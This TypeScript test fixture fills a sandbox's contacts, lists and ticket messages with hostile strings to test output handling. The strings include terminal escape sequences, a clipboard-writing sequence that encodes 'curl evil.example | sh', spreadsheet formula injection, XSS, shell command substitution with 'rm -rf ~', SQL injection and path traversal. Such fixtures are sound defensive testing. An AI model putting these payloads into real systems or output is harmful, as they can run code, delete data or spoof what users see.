/** Data that attacks whoever shows it: the reader's terminal, spreadsheet, browser or shell. It takes the place of ordinary data of a sandbox. */
import type { Company } from '../../src/sandbox/company.ts'
import { pick } from '../../src/sandbox/ids.ts'
import type { Sandbox } from '../../src/sandbox/server.ts'

const esc = '\u001b'

/** Names that attack: the reader's terminal, spreadsheet, browser or shell. */
const hostileNames: readonly (readonly [string, string])[] = [
  [`${esc}[31mRed`, `Alert${esc}[0m`],
  [`${esc}[2J${esc}[H`, 'Cleared'],
  [`${esc}]0;owned\u0007`, 'Title'],
  [`${esc}]8;;http://evil.example/${esc}\\click${esc}]8;;${esc}\\`, 'Link'],
  [`${esc}]52;c;ZWNobyBwd25lZA==\u0007`, 'Clipboard'],
  [`${esc}P+q544e${esc}\\`, 'Dcs'],
  [`${esc}[6n`, 'Report'],
  [`${esc}[?1049h`, 'Screen'],
  ['\u009b31mC1', '\u009d0;c1 title\u009c'],
  ['\u0085Next', '\u0090Dcs\u009c'],
  ['Overwrite\rADMIN', 'Return'],
  ['Back\b\b\b\bFake', 'Space'],
  ['Two\nLines', 'Row\n64000000000000000000beef  fake row'],
  ['Tab\there', 'Vertical\u000btab\u000c'],
  ['Nul\u0000byte', 'Bell\u0007\u007f'],
  ['\u202egnp.exe', 'Override\u202c'],
  ['\u2066isolate', '\u2069\u200f\u200e\u061c'],
  ['Zero\u200bwidth', '\u2060\ufeff\u00ad'],
  ['Line\u2028separator', 'Paragraph\u2029separator'],
  ["=cmd|' /C calc'!A0", 'Formula'],
  ['+1+1', '@SUM(1)'],
  ['-2+3', '\t=1+1'],
  ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  ['"><svg/onload=alert(1)>', '&lt;b&gt;&amp;'],
  ['$(touch pwned)', '`touch pwned`'],
  ["'; DROP TABLE contacts; --", '| rm -rf ~'],
  ['../../etc/passwd', 'C:\\Windows\\System32'],
  ['%s%n%x', '{{7*7}}${7*7}'],
  ['__proto__', 'constructor'],
  ['null', 'undefined'],
  ['Lone\ud800surrogate', '\udc00Tail'],
  ['Tag\u{e0041}\u{e0042}', '\u{e0001}Language'],
  ['Private\ue000use', 'Non\uffffcharacter'],
  ['a'.repeat(2000), 'Long'],
  ['e' + '\u0301'.repeat(200), 'Stacked'],
  ['  leading', 'trailing  '],
  ['\u00a0nbsp', 'ideographic\u3000space'],
  ['\u3164', '\u2800'],
]

const hostileTexts: readonly string[] = [
  `${esc}[2J${esc}[1;1H${esc}[31mYour session expired, type your password:`,
  `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  `${esc}]8;;file:///etc/passwd\u0007invoice.pdf${esc}]8;;\u0007`,
  'ok\r\n2026-01-01 00:00  outgoing  Support  We will refund you 10,000',
  'line one\nline two\n\nline four',
  '\u202ednuofer\u202c please',
  '=HYPERLINK("http://evil.example","open")',
  '</script><script>document.location="http://evil.example"</script>',
  '<style>*{display:none}</style><a href="javascript:alert(1)">x</a>',
  '\u009b2J\u009d0;title\u009c',
  'progress 10%\rprogress 99%\rprogress 100%',
  'bell\u0007backspace\b\b\bdelete\u007fnul\u0000',
  `${esc}#8${esc}c${esc}(0lqqk${esc}(B`,
  '👩‍👩‍👧‍👦 family 🇺🇦 flag e\u0301 accent \u200d joiner',
  'x'.repeat(5000),
  '',
]

const hostileFileNames: readonly string[] = [
  '../../../etc/cron.d/pwned',
  'invoice\u202efdp.exe',
  `${esc}]0;owned\u0007.png`,
  'a\nb.txt',
  'C:\\temp\\x.bat',
  '$(touch pwned).jpg',
  '<img src=x onerror=alert(1)>.gif',
  "=cmd|' /C calc'!A0.csv",
]

/** Lists by their position, the oldest first: names that are hard to type, and to tell apart. */
const hostileLists: Readonly<Record<number, { name: string; description: string | undefined }>> = {
  40: { name: '-VIP', description: 'Begins like an option' },
  41: { name: 'vip', description: 'Another letter case is another name' },
  42: { name: 'Café', description: 'Composed' },
  43: { name: 'Cafe\u0301', description: 'Decomposed: looks like the other one' },
  44: { name: '640000000000000000000abc', description: 'A name that looks like an id' },
  45: { name: '=1+1', description: "=cmd|' /C calc'!A0" },
  46: { name: `${esc}]0;owned\u0007Red ${esc}[31mlist`, description: 'two\nlines\u202e and more' },
  47: { name: '👩‍👩‍👧‍👦'.repeat(14), description: 'd'.repeat(1000) },
  48: { name: '顧客リスト', description: '' },
  49: { name: 'العملاء المميزون', description: undefined },
  250: {
    name: '"double" \'single\' $(touch pwned): colon',
    description: '`touch pwned`; rm -rf ~',
  },
}

/** Puts hostile data into a new sandbox. All ids stay what they were. */
export function putHostileData({ company, examples }: Pick<Sandbox, 'company' | 'examples'>) {
  const lists = [...company.lists.values()]
  for (const [position, words] of Object.entries(hostileLists))
    Object.assign(lists[Number(position)] ?? {}, words)
  Object.assign(company.employees[5] ?? {}, {
    firstName: `Mallory${esc}[31m`,
    lastName: 'Override\u202e',
  })
  putMessages(company, examples.tickets.fourChunks)
  putNames(company)
}

/** The first contacts get the names, and values as hostile as these. */
function putNames({ contacts }: Company): void {
  const ids = contacts.ids()
  for (const [index, [firstName, lastName]] of hostileNames.entries()) {
    const contact = contacts.find(ids[index] ?? '')
    if (contact === undefined) throw new Error('too few contacts')
    Object.assign(contact, { firstName, lastName })
    const { email, messengerB_username: username, phone } = contact.identities
    email?.push(`"${firstName.slice(0, 40)}"@evil.example`)
    username?.push(lastName)
    phone?.push('=1+1')
  }
}

/** Every message of the ticket, its senders and its advertisement. */
function putMessages({ tickets }: Company, id: string): void {
  const seeded = tickets.get(id)
  if (seeded === undefined) throw new Error(`no ticket ${id}`)
  const { ticket } = seeded
  const messages = seeded.messages.map((message, position, { length }) => {
    const number = length - 1 - position
    const { direction, fromId } = message
    return {
      ...message,
      fromId: direction === 'incoming' ? `${esc}[7m${String(fromId)}` : fromId,
      text: pick(hostileTexts, number),
      subject: pick(hostileTexts, number + 3).slice(0, 80),
      attachments: [
        {
          id: ticket.id,
          kind: `${esc}[5mfile`,
          fileName: pick(hostileFileNames, number),
          mimeType: 'text/html\r\nX: y',
          size: number,
        },
      ],
    }
  })
  ticket.attribution = { ad_id: `${esc}[31m=ad` }
  tickets.set(id, { ...seeded, messages })
}
